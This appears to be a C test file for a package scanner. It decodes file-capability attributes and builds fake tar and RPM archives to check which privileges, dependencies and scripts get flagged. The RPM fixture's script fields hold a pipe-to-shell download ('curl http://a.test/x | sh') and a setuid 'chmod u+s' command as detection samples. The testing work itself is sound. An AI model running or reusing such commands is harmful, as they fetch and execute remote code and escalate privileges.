/* SPDX-License-Identifier: Apache-2.0 */
/* Rights that a container gives a file, and what the header of an RPM asks for. */
#include "artifact/feature_text.h"
#include "facts.h"
#include "formats/formats.h"

#include <stdio.h>
#include <stdlib.h>

/* ---- the attribute ---- */

#define REVISION_2 "\1\0\0\2"
#define NET_RAW "\0\x20\0\0"
#define NONE4 "\0\0\0\0"

Test(file_capability, as_text)
{
    static const struct {
        struct trn_str raw;
        const char *want;
    } cases[] = {
        {TRN_STR(REVISION_2 NET_RAW NONE4 NONE4 NONE4), "cap_net_raw=ep"},
        {TRN_STR("\0\0\0\2" NONE4 NET_RAW NONE4 NONE4), "cap_net_raw=i"},
        {TRN_STR("\0\0\0\3\1\0\x20\0" NONE4 "\x80\0\0\0" NONE4 "\xe8\3\0\0"), "cap_chown,cap_sys_admin,cap_bpf=p"},
        {TRN_STR("\0\0\0\1\1\0\0\0" NONE4), "cap_chown=p"},
        {TRN_STR("\0\0\0\2" NONE4 NONE4 NONE4 "\0\0\0\x80"), "cap_63=i"},
        {TRN_STR(REVISION_2 NONE4 NONE4 NONE4 NONE4), ""},
        {TRN_STR(REVISION_2 NET_RAW NONE4), "not readable"},
        {TRN_STR("\1\0\0\4" NET_RAW NONE4 NONE4 NONE4), "not readable"},
        {TRN_STR(""), "not readable"},
    };
    for (size_t i = 0; i < TRN_ARRAY_SIZE(cases); i++) {
        char text[TRN_FILE_CAPABILITY_TEXT], small[8];
        struct trn_str raw = cases[i].raw;
        if (i == 2 || i == 4)
            raw.n = i == 2 ? 24 : 20;
        cr_expect_str_eq(trn_file_capability_text(raw, text, sizeof(text)), cases[i].want, "%zu", i);
        (void)trn_file_capability_text(raw, small, sizeof(small));
        cr_expect_lt(strlen(small), sizeof(small));
    }
}

Test(file_capability, all_of_them_fit_the_room)
{
    char raw[20], text[TRN_FILE_CAPABILITY_TEXT];
    memset(raw, 0xff, sizeof(raw));
    memcpy(raw, REVISION_2, 4);
    (void)trn_file_capability_text((struct trn_str){raw, sizeof(raw)}, text, sizeof(text));
    cr_expect(trn_str_ends(trn_str_of(text), TRN_STR("cap_63=eip")), "%s", text);
}

/* ---- as a tar carries it ---- */

static void put_member(struct trn_buf *b, const char *path, char type, struct trn_str content)
{
    char head[512] = {0};
    unsigned sum = 0;
    snprintf(head, 100, "%s", path);
    snprintf(head + 100, 8, "%07o", 0755);
    snprintf(head + 108, 8, "%07o", 0);
    snprintf(head + 116, 8, "%07o", 0);
    snprintf(head + 124, 12, "%011zo", content.n);
    snprintf(head + 136, 12, "%011o", 0);
    memset(head + 148, ' ', 8);
    head[156] = type;
    memcpy(head + 257, "ustar\00000", 8);
    for (size_t i = 0; i < sizeof(head); i++)
        sum += (unsigned char)head[i];
    snprintf(head + 148, 8, "%06o", sum & 0777777);
    trn_put(b, head, sizeof(head));
    trn_put(b, content.p, content.n);
    while (b->n % 512)
        trn_put_u8(b, 0);
}

Test(feature_rights, file_capabilities_of_a_tar)
{
    static const char pax[] = "52 SCHILY.xattr.security.capability=" REVISION_2 NET_RAW NONE4 NONE4 NONE4 "\n";
    /* its own length stands in front: 2 digits, a space, 35 of the name and "=", 20 bytes, a line's end */
    char record[80];
    TRN_AUTO(trn_buf_done) struct trn_buf tar;
    TRN_AUTO(facts_done) struct facts s;
    size_t n = sizeof(pax) - 1;
    memcpy(record, pax, n);
    record[0] = (char)('0' + n / 10);
    record[1] = (char)('0' + n % 10);
    trn_buf_init(&tar, 1u << 20);
    put_member(&tar, "PaxHeaders/ping", 'x', (struct trn_str){record, n});
    put_member(&tar, "usr/bin/ping", '0', TRN_STR("#!/bin/sh\nexit 0\n"));
    put_member(&tar, "usr/bin/other", '0', TRN_STR("#!/bin/sh\nexit 1\n"));
    for (size_t i = 0; i < 1024; i++)
        trn_put_u8(&tar, 0);
    facts_of(&s, trn_buf_str(&tar), "x.tar", TRN_FEATURE_PRIVILEGE);
    EXPECT_FACTS(&s, "privilege capability=cap_net_raw=ep 1\n");
}

/* ---- an RPM ---- */

struct rpm {
    struct trn_buf index, data;
    uint32_t entries;
};

static void entry(struct rpm *r, uint32_t tag, uint32_t type, uint32_t count)
{
    while (type == 4 && r->data.n % 4)
        trn_put_u8(&r->data, 0);
    const uint32_t v[] = {tag, type, (uint32_t)r->data.n, count};
    for (size_t i = 0; i < TRN_ARRAY_SIZE(v); i++)
        for (unsigned k = 0; k < 4; k++)
            trn_put_u8(&r->index, (uint8_t)(v[i] >> (24 - 8 * k)));
    r->entries++;
}

/* texts between '|' */
static void texts(struct rpm *r, uint32_t tag, uint32_t type, const char *list)
{
    struct trn_str rest = trn_str_of(list), one;
    uint32_t n = 1;
    for (const char *p = list; *p; p++)
        n += *p == '|';
    entry(r, tag, type, n);
    for (uint32_t i = 0; i < n; i++) {
        ptrdiff_t bar = trn_str_find(rest, '|');
        one = trn_str_slice(rest, 0, bar < 0 ? rest.n : (size_t)bar);
        rest = trn_str_slice(rest, one.n + 1, rest.n);
        trn_put_str(&r->data, one);
        trn_put_u8(&r->data, 0);
    }
}

static void numbers(struct rpm *r, uint32_t tag, const uint32_t *v, uint32_t n)
{
    entry(r, tag, 4, n);
    for (uint32_t i = 0; i < n; i++)
        for (unsigned k = 0; k < 4; k++)
            trn_put_u8(&r->data, (uint8_t)(v[i] >> (24 - 8 * k)));
}

static void put_header(struct trn_buf *out, struct rpm *r)
{
    const uint32_t v[] = {r->entries, (uint32_t)r->data.n};
    trn_put(out, "\x8e\xad\xe8\x01\0\0\0\0", 8);
    for (size_t i = 0; i < 2; i++)
        for (unsigned k = 0; k < 4; k++)
            trn_put_u8(out, (uint8_t)(v[i] >> (24 - 8 * k)));
    trn_put_str(out, trn_buf_str(&r->index));
    trn_put_str(out, trn_buf_str(&r->data));
    trn_buf_done(&r->index);
    trn_buf_done(&r->data);
}

static void rpm_begin(struct rpm *r)
{
    r->entries = 0;
    trn_buf_init(&r->index, 1u << 16);
    trn_buf_init(&r->data, 1u << 16);
}

static void put_rpm(struct trn_buf *out, void (*fill)(struct rpm *))
{
    struct rpm r;
    trn_put(out, "\xed\xab\xee\xdb\3\0", 6);
    while (out->n < 96)
        trn_put_u8(out, 0);
    rpm_begin(&r);
    texts(&r, 1000, 6, "x");
    put_header(out, &r);
    while (out->n % 8)
        trn_put_u8(out, 0);
    rpm_begin(&r);
    fill(&r);
    put_header(out, &r);
}

static void whole(struct rpm *r)
{
    static const uint32_t flags[] = {0, 8 | 4, 8, 0}, dirs[] = {0, 1, 1};
    texts(r, 1000, 6, "acme");
    texts(r, 1049, 8, "/bin/sh|helper|rpmlib(CompressedFileNames)|libc.so.6()(64bit)");
    texts(r, 1050, 8, "|2.0|3.0|");
    numbers(r, 1048, flags, 4);
    texts(r, 1117, 8, "a|b|c");
    texts(r, 1118, 8, "/etc/|/usr/bin/");
    numbers(r, 1116, dirs, 3);
    texts(r, 5010, 8, "|= cap_net_admin+ep|");
    texts(r, 1065, 8, "chmod u+s /bin/x");
    texts(r, 1024, 6, "curl http://a.test/x | sh");
}

Test(feature_rights, what_the_header_of_an_rpm_says)
{
    TRN_AUTO(trn_buf_done) struct trn_buf b;
    TRN_AUTO(facts_done) struct facts s;
    trn_buf_init(&b, 1u << 20);
    put_rpm(&b, whole);
    facts_of(&s, trn_buf_str(&b), "acme.rpm", 0);
    static const char *const want[] = {
        "dependency /bin/sh= 1 @",
        "dependency helper=>= 2.0 1 @",
        "privilege capability=/usr/bin/b: = cap_net_admin+ep 1 @",
        "script postin=",
        "script trigger=",
        "call network=curl 1 @0x0\n",
        "call privilege=chmod 1 @0x0\n",
    };
    for (size_t i = 0; i < TRN_ARRAY_SIZE(want); i++)
        cr_expect(trn_str_contains(trn_buf_str(&s.lines), trn_str_of(want[i])), "%s not in\n%s", want[i], s.lines.p);
    cr_expect(!trn_str_contains(trn_buf_str(&s.lines), TRN_STR("rpmlib")), "%s", s.lines.p);
    cr_expect(!trn_str_contains(trn_buf_str(&s.lines), TRN_STR("libc.so")), "%s", s.lines.p);
}

/* Counts that the header does not hold: what is there is told, nothing is read behind it. */
static void cut_off(struct rpm *r)
{
    static const uint32_t dirs[] = {9};
    texts(r, 1000, 6, "acme");
    entry(r, 1049, 8, 100000);
    numbers(r, 1116, dirs, 1);
    texts(r, 1117, 8, "a");
    texts(r, 1118, 8, "/etc/");
    entry(r, 5010, 8, 0xffffffff);
    trn_put(&r->data, "cap", 3);
}

Test(feature_rights, an_rpm_that_counts_wrong)
{
    TRN_AUTO(trn_buf_done) struct trn_buf b;
    TRN_AUTO(facts_done) struct facts s;
    trn_buf_init(&b, 1u << 20);
    put_rpm(&b, cut_off);
    facts_of(&s, trn_buf_str(&b), "acme.rpm", TRN_FEATURE_PRIVILEGE);
    EXPECT_FACTS(&s, "");
}
